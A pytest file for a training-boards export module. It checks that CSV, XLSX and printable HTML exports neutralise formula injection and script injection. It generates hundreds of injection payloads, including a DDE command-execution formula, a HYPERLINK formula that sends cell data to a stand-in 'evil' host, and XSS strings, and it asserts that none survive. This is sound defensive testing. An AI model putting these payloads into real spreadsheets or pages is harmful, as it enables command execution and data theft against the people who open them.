from __future__ import annotations

import csv
import io
import itertools
import re
import zipfile
from html.parser import HTMLParser
from xml.etree import ElementTree as ET

import pytest

from training.boards.export import Table, neutral, original, to_csv, to_print, to_xlsx

STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "|", "%", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\u2212")
BEFORE = ("", " ", "  ", '"', "'", "' ", "\u00a0", "\u3000", "“", "\ufeff", "\u200b")
BODIES = ("cmd|' /C calc'!A0", 'HYPERLINK("http://evil/?x="&A1,"ok")', "1+1")
PAYLOADS = [f"{before}{start}{body}" for before, start, body in itertools.product(BEFORE, STARTS, BODIES)]
PLAIN = [
    "Ana Silva",
    "O'Neill",
    "'quoted'",
    "",
    "50 % off",
    "a=b",
    "_x0041_",
    "<b>bold</b>",
    "ליאור",
    "🍼",
    "a\nb",
    "''",
]
MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
RUNS = re.compile(r"^[\s'\"“\u200b\ufeff]*[=+\-@\t\r\n|%\uff1d\uff0b\uff0d\uff20\u2212]")


def table(texts: list[str]) -> Table:
    return Table("People", ("Name", "Score"), tuple((text, number) for number, text in enumerate(texts)))


def read_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_there_are_two_hundred_payloads_and_more() -> None:
    assert len(set(PAYLOADS)) >= 200


@pytest.mark.parametrize("text", [*PLAIN, *PAYLOADS])
def test_what_is_made_neutral_comes_back(text: str) -> None:
    assert original(neutral(text)) == text
    assert text in ("", *PLAIN) or neutral(text).startswith("'")


def test_no_cell_of_a_csv_is_a_formula_and_every_one_comes_back() -> None:
    texts = [*PLAIN, *PAYLOADS]
    head, *rows, about = read_csv(to_csv(table(texts), "for training"))
    assert head == ["Name", "Score"]
    assert about == ["for training"]
    assert [original(row[0]) for row in rows] == texts
    assert not any(RUNS.search(row[0]) and not row[0].startswith("'") for row in rows)
    assert [row[1] for row in rows] == [str(number) for number in range(len(texts))]


def test_no_cell_of_a_workbook_is_a_formula_and_every_one_comes_back() -> None:
    texts = [*PLAIN, *PAYLOADS]
    with zipfile.ZipFile(io.BytesIO(to_xlsx([table(texts)], "for training"))) as book:
        assert not any("external" in name.lower() for name in book.namelist())
        sheet = ET.fromstring(book.read("xl/worksheets/sheet1.xml"))  # noqa: S314 - our own
        shared = [
            "".join(part.text or "" for part in item.iter(f"{MAIN}t"))
            for item in ET.fromstring(book.read("xl/sharedStrings.xml"))  # noqa: S314 - our own
        ]
    assert list(sheet.iter(f"{MAIN}f")) == []
    assert list(sheet.iter(f"{MAIN}hyperlink")) == []
    found = {}
    for each in sheet.iter(f"{MAIN}c"):
        value = each.find(f"{MAIN}v")
        if each.get("r", "").startswith("A") and value is not None:
            assert each.get("t") == "s", "typed as text"
            found[each.get("r")] = unescaped(shared[int(value.text or "")])
    # An empty text is an empty cell.
    assert [found.get(f"A{line}", "") for line in range(2, len(texts) + 2)] == texts


def unescaped(text: str) -> str:
    """Read the escapes of a workbook, as a spreadsheet does."""
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda found: chr(int(found[1], 16)), text)


def test_a_sheet_may_be_called_anything() -> None:
    many = [Table(name, ("A",), (("x",),)) for name in ("History", "a/b*c?[d]:e\\f", "'", "x" * 60, "x" * 60)]
    with zipfile.ZipFile(io.BytesIO(to_xlsx(many, ""))) as book:
        assert sum(name.startswith("xl/worksheets/sheet") for name in book.namelist()) == len(many)


class Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.words: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        assert not any(name.startswith("on") or name in ("src", "href") for name, _ in attrs)

    def handle_data(self, data: str) -> None:
        self.words.append(data)


def test_the_page_to_print_holds_words_and_nothing_that_runs() -> None:
    evil = "<script>alert(1)</script><img src=x onerror=alert(1)>"
    page = Tags()
    page.feed(to_print(evil, [table([evil, "Ana"]), Table("Empty", ("A",), ())], evil).decode())
    assert page.tags <= {"html", "head", "meta", "title", "style", "body", "h1", "h2", "p"} | {
        "table",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
    }
    assert page.words.count(evil) == 4
    assert "Nothing yet." in page.words


def test_a_printed_name_or_date_stays_on_its_line_and_many_heads_stand_upright() -> None:
    narrow = to_print("T", [Table("Few", ("Name", "Due"), (("Ben Carraway", "2026-09-10"),))], "x").decode()
    assert narrow.count('<td class="k">') == 2
    assert '<table class="w">' not in narrow
    heads = tuple(f"Skill {number}" for number in range(13))
    assert '<table class="w">' in to_print("T", [Table("Many", heads, ((1.0,) * 13,))], "x").decode()
